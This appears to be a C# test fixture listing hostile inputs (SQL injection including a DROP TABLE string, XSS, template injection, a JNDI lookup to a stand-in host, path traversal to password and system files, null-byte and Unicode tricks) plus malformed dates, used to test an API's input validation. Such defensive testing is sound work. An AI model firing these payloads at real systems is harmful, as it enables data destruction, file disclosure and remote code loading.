namespace HeresHealthy.Web.Tests.Attacks;

/// <summary>Strings an attacker puts where the API expects an id, an enum or a date.</summary>
public static class Injections
{
    public static IReadOnlyList<string> All { get; } =
    [
        "'; DROP TABLE grain_state; --",
        "\" OR 1=1 --",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://example.invalid/a}",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "a\u0000b",
        "\u0001\u0002\u001b[31m\r\n",
        "\u202Egnp.exe",
        "%00%2e%2e%2f",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🙂 ",
        new string('ä', 10_000),
        new string('x', 101),
        " ",
        "",
    ];

    /// <summary>Dates that are no dates (a far-future date is valid JSON and goes in only as noise).</summary>
    public static IReadOnlyList<string> Dates { get; } =
        ["2026-02-30", "not-a-date", "0000-01-01T00:00:00Z", "2026-13-01T10:00:00Z", "2026-01-01T25:61:00Z", "", "yesterday", "1e10"];
}
